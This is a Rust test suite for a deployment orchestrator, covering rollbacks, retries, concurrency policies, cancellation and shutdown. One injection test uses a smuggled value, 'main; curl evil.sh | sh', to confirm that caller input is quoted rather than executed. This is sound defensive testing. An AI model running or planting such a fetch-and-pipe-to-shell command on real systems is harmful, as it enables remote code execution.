//! Orchestrator tests

use std::time::Duration;

use pushdeploy::deploy::orchestrator::ConcurrencyPolicy;
use pushdeploy::deploy::plan::{DeploymentPlan, Step};
use pushdeploy::errors::DeployError;
use pushdeploy::models::run::{DeployContext, RunStatus, StepPhase, StepStatus};

use crate::common::{
    fast_retry, orchestrator, release_plan, request, step, Reply, ScriptedExecutor,
};

#[tokio::test]
async fn test_successful_run() {
    let executor = ScriptedExecutor::new();
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    let record = orch.wait(&run_id).await.unwrap();

    assert_eq!(record.status, RunStatus::Succeeded);
    assert_eq!(
        executor.calls(),
        vec!["fetch forward", "install forward", "migrate forward", "restart forward"]
    );
    assert_eq!(record.outcomes.len(), 4);
    assert!(record.rollback_order().is_empty());
    assert!(record.started_at.is_some());
    assert!(record.finished_at.is_some());
    assert!(record.current_step.is_none());
    assert!(orch.active_runs().is_empty());
}

#[tokio::test]
async fn test_failed_step_rolls_back_in_reverse() {
    let executor = ScriptedExecutor::new();
    executor.script("migrate forward", vec![Reply::Exit(1)]);
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    let record = orch.wait(&run_id).await.unwrap();

    assert_eq!(record.status, RunStatus::RolledBack);
    assert_eq!(record.failed_step.as_deref(), Some("migrate"));
    assert_eq!(record.rollback_order(), vec!["install", "fetch", "migrate"]);
    assert_eq!(executor.call_count("restart forward"), 0);

    let migrate = record.forward_outcome("migrate").unwrap();
    assert_eq!(migrate.status, StepStatus::Failed);
    assert_eq!(migrate.attempts, 1);
    assert_eq!(migrate.exit_code, Some(1));

    assert_eq!(record.step_status("fetch"), StepStatus::RolledBack);
    assert_eq!(record.step_status("install"), StepStatus::RolledBack);
    assert_eq!(record.step_status("restart"), StepStatus::Pending);
}

#[tokio::test]
async fn test_transient_failures_do_not_fail_the_run() {
    let executor = ScriptedExecutor::new();
    executor.script("install forward", vec![Reply::Timeout, Reply::Timeout]);
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    let record = orch.wait(&run_id).await.unwrap();

    assert_eq!(record.status, RunStatus::Succeeded);
    assert_eq!(record.forward_outcome("install").unwrap().attempts, 3);
}

#[tokio::test]
async fn test_trigger_while_running_is_rejected() {
    let executor = ScriptedExecutor::new();
    let gate = executor.gate("install forward");
    let other = DeploymentPlan::new("worker", vec![step("ping")]).unwrap();
    let orch = orchestrator(
        executor.clone(),
        vec![release_plan(), other],
        ConcurrencyPolicy::Reject,
    );

    let first = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    executor.wait_for_call("install forward").await;

    match orch.trigger_deployment(request("web-1", "api")).await {
        Err(DeployError::ConcurrentDeployment { host, run_id }) => {
            assert_eq!(host, "web-1");
            assert_eq!(run_id, first);
        }
        other => panic!("expected ConcurrentDeployment, got {:?}", other),
    }

    // Other hosts are unaffected
    let elsewhere = orch
        .trigger_deployment(request("web-2", "worker"))
        .await
        .unwrap();
    assert_eq!(
        orch.wait(&elsewhere).await.unwrap().status,
        RunStatus::Succeeded
    );

    let running = orch.get_run_record(&first).await.unwrap();
    assert_eq!(running.status, RunStatus::Running);
    assert_eq!(running.current_step.as_deref(), Some("install"));
    assert_eq!(running.step_status("fetch"), StepStatus::Succeeded);
    assert_eq!(running.step_status("install"), StepStatus::Running);
    assert_eq!(running.step_status("migrate"), StepStatus::Pending);

    gate.add_permits(1);
    assert_eq!(orch.wait(&first).await.unwrap().status, RunStatus::Succeeded);

    // Lock released with the terminal status
    let second = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    assert_ne!(first, second);
}

#[tokio::test]
async fn test_simultaneous_triggers_start_one_run() {
    let executor = ScriptedExecutor::new();
    let gate = executor.gate("install forward");
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let (a, b) = tokio::join!(
        orch.trigger_deployment(request("web-1", "api")),
        orch.trigger_deployment(request("web-1", "api")),
    );

    let (started, rejected) = match (a, b) {
        (Ok(id), Err(err)) | (Err(err), Ok(id)) => (id, err),
        other => panic!("expected one run and one rejection, got {:?}", other),
    };
    match rejected {
        DeployError::ConcurrentDeployment { host, run_id } => {
            assert_eq!(host, "web-1");
            assert_eq!(run_id, started);
        }
        other => panic!("expected ConcurrentDeployment, got {:?}", other),
    }
    assert_eq!(orch.list_runs().await.len(), 1);

    gate.add_permits(1);
    assert_eq!(orch.wait(&started).await.unwrap().status, RunStatus::Succeeded);
    assert_eq!(executor.call_count("fetch forward"), 1);
}

#[tokio::test]
async fn test_many_waiters_see_terminal_record() {
    let executor = ScriptedExecutor::new();
    let gate = executor.gate("install forward");
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    executor.wait_for_call("install forward").await;

    let (first, second, _) = tokio::join!(orch.wait(&run_id), orch.wait(&run_id), async {
        tokio::time::sleep(Duration::from_millis(10)).await;
        gate.add_permits(1);
    });

    assert_eq!(first.unwrap().status, RunStatus::Succeeded);
    assert_eq!(second.unwrap().status, RunStatus::Succeeded);
    assert_eq!(orch.wait(&run_id).await.unwrap().status, RunStatus::Succeeded);
}

#[tokio::test]
async fn test_shutdown_waits_for_run_already_awaited() {
    let executor = ScriptedExecutor::new();
    let gate = executor.gate("install forward");
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    executor.wait_for_call("install forward").await;

    let (waited, status_after_shutdown, _) = tokio::join!(
        orch.wait(&run_id),
        async {
            tokio::time::sleep(Duration::from_millis(5)).await;
            orch.shutdown().await;
            orch.get_run_record(&run_id).await.unwrap().status
        },
        async {
            tokio::time::sleep(Duration::from_millis(20)).await;
            gate.add_permits(1);
        }
    );

    assert_eq!(status_after_shutdown, RunStatus::RolledBack);
    assert_eq!(waited.unwrap().status, RunStatus::RolledBack);
}

#[tokio::test]
async fn test_queue_policy_serializes_runs() {
    let executor = ScriptedExecutor::new();
    let gate = executor.gate("install forward");
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Queue);

    let first = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    executor.wait_for_call("install forward").await;
    let second = orch.trigger_deployment(request("web-1", "api")).await.unwrap();

    tokio::time::sleep(Duration::from_millis(20)).await;
    let queued = orch.get_run_record(&second).await.unwrap();
    assert_eq!(queued.status, RunStatus::Idle);
    assert_eq!(executor.call_count("fetch forward"), 1);

    gate.add_permits(2);
    let first = orch.wait(&first).await.unwrap();
    let second = orch.wait(&second).await.unwrap();

    assert_eq!(first.status, RunStatus::Succeeded);
    assert_eq!(second.status, RunStatus::Succeeded);
    assert!(second.started_at.unwrap() >= first.finished_at.unwrap());
}

#[tokio::test]
async fn test_duplicate_trigger_key_returns_same_run() {
    let executor = ScriptedExecutor::new();
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let mut req = request("web-1", "api");
    req.context = DeployContext::new("main").with_trigger_key("push-abc123");

    let first = orch.trigger_deployment(req.clone()).await.unwrap();
    orch.wait(&first).await.unwrap();
    let second = orch.trigger_deployment(req).await.unwrap();

    assert_eq!(first, second);
    assert_eq!(executor.call_count("fetch forward"), 1);
    assert_eq!(orch.list_runs().await.len(), 1);
}

#[tokio::test]
async fn test_unknown_host_or_plan() {
    let executor = ScriptedExecutor::new();
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    assert!(matches!(
        orch.trigger_deployment(request("db-9", "api")).await,
        Err(DeployError::NotFound(_))
    ));
    assert!(matches!(
        orch.trigger_deployment(request("web-1", "nope")).await,
        Err(DeployError::NotFound(_))
    ));
    assert!(matches!(
        orch.get_run_record("run-missing").await,
        Err(DeployError::NotFound(_))
    ));
    assert!(executor.calls().is_empty());
}

#[tokio::test]
async fn test_unresolved_variable_rejects_trigger() {
    let executor = ScriptedExecutor::new();
    let plan = DeploymentPlan::new(
        "api",
        vec![Step::new("fetch", "git checkout {{var.tag}}")
            .with_rollback("git checkout -")
            .with_retry(fast_retry(1))],
    )
    .unwrap();
    let orch = orchestrator(executor.clone(), vec![plan], ConcurrencyPolicy::Reject);

    let result = orch.trigger_deployment(request("web-1", "api")).await;
    assert!(matches!(result, Err(DeployError::PlanError(_))));
    assert!(orch.list_runs().await.is_empty());

    let mut req = request("web-1", "api");
    req.context = DeployContext::new("main").with_var("tag", "v2");
    let run_id = orch.trigger_deployment(req).await.unwrap();
    orch.wait(&run_id).await.unwrap();
    assert_eq!(executor.calls(), vec!["git checkout v2"]);
}

#[tokio::test]
async fn test_caller_values_cannot_inject_commands() {
    let executor = ScriptedExecutor::new();
    let plan = DeploymentPlan::new(
        "api",
        vec![Step::new("fetch", "git checkout {{ref}}")
            .with_rollback("git checkout -")
            .with_retry(fast_retry(1))],
    )
    .unwrap();
    let orch = orchestrator(executor.clone(), vec![plan], ConcurrencyPolicy::Reject);

    let mut req = request("web-1", "api");
    req.context = DeployContext::new("main; curl evil.sh | sh");
    let run_id = orch.trigger_deployment(req).await.unwrap();
    orch.wait(&run_id).await.unwrap();

    assert_eq!(executor.calls(), vec!["git checkout 'main; curl evil.sh | sh'"]);
}

#[tokio::test]
async fn test_forward_only_step_rollback_is_skipped() {
    let executor = ScriptedExecutor::new();
    executor.script("install forward", vec![Reply::Exit(1)]);
    let plan = DeploymentPlan::new(
        "api",
        vec![
            Step::new("warm", "warm forward")
                .idempotent()
                .with_retry(fast_retry(1)),
            step("install"),
        ],
    )
    .unwrap();
    let orch = orchestrator(executor.clone(), vec![plan], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    let record = orch.wait(&run_id).await.unwrap();

    assert_eq!(record.status, RunStatus::RolledBack);
    let warm = record.rollback_outcome("warm").unwrap();
    assert!(warm.skipped);
    assert_eq!(warm.status, StepStatus::Succeeded);
    assert_eq!(record.step_status("warm"), StepStatus::Succeeded);
    assert_eq!(record.step_status("install"), StepStatus::RolledBack);
    assert_eq!(executor.call_count("install rollback"), 1);
}

#[tokio::test]
async fn test_rollback_failure_continues_and_is_reported() {
    let executor = ScriptedExecutor::new();
    executor.script("migrate forward", vec![Reply::Exit(1)]);
    executor.script("install rollback", vec![Reply::Exit(3)]);
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    let record = orch.wait(&run_id).await.unwrap();

    assert_eq!(record.status, RunStatus::RollbackFailed);
    assert_eq!(record.rollback_order(), vec!["install", "fetch", "migrate"]);
    assert_eq!(executor.call_count("fetch rollback"), 1);
    let detail = record.rollback_error.unwrap();
    assert!(detail.contains("install"));
    assert!(!detail.contains("fetch"));
}

#[tokio::test]
async fn test_cancel_rolls_back_after_current_step() {
    let executor = ScriptedExecutor::new();
    let gate = executor.gate("install forward");
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    executor.wait_for_call("install forward").await;

    orch.cancel(&run_id).await.unwrap();
    gate.add_permits(1);
    let record = orch.wait(&run_id).await.unwrap();

    assert_eq!(record.status, RunStatus::RolledBack);
    assert_eq!(record.failed_step.as_deref(), Some("install"));
    assert_eq!(record.failure_reason.as_deref(), Some("cancelled"));
    assert_eq!(record.rollback_order(), vec!["fetch", "install"]);
    assert_eq!(executor.call_count("migrate forward"), 0);

    assert!(matches!(
        orch.cancel(&run_id).await,
        Err(DeployError::LedgerError(_))
    ));
    assert!(matches!(
        orch.cancel("run-missing").await,
        Err(DeployError::NotFound(_))
    ));
}

#[tokio::test]
async fn test_shutdown_rolls_back_active_runs() {
    let executor = ScriptedExecutor::new();
    let gate = executor.gate("install forward");
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    executor.wait_for_call("install forward").await;

    tokio::join!(orch.shutdown(), async {
        tokio::time::sleep(Duration::from_millis(10)).await;
        gate.add_permits(1);
    });

    let record = orch.get_run_record(&run_id).await.unwrap();
    assert_eq!(record.status, RunStatus::RolledBack);
    assert!(orch.active_runs().is_empty());
}

#[tokio::test]
async fn test_outcomes_are_appended_in_execution_order() {
    let executor = ScriptedExecutor::new();
    executor.script("restart forward", vec![Reply::Exit(1)]);
    let orch = orchestrator(executor.clone(), vec![release_plan()], ConcurrencyPolicy::Reject);

    let run_id = orch.trigger_deployment(request("web-1", "api")).await.unwrap();
    let record = orch.wait(&run_id).await.unwrap();

    let trail: Vec<(StepPhase, &str)> = record
        .outcomes
        .iter()
        .map(|o| (o.phase, o.step_name.as_str()))
        .collect();
    assert_eq!(
        trail,
        vec![
            (StepPhase::Forward, "fetch"),
            (StepPhase::Forward, "install"),
            (StepPhase::Forward, "migrate"),
            (StepPhase::Forward, "restart"),
            (StepPhase::Rollback, "migrate"),
            (StepPhase::Rollback, "install"),
            (StepPhase::Rollback, "fetch"),
            (StepPhase::Rollback, "restart"),
        ]
    );
    assert_eq!(executor.calls().len(), 8);
}
